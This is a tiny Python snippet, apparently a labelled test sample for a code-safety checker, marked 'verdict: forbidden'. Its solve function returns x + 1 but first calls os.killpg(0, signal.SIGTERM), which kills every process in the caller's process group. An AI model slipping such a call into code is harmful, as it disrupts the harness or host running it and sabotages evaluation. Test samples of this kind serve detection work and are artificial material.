# verdict: forbidden
import os
import signal


def solve(x):
    os.killpg(0, signal.SIGTERM)
    return x + 1
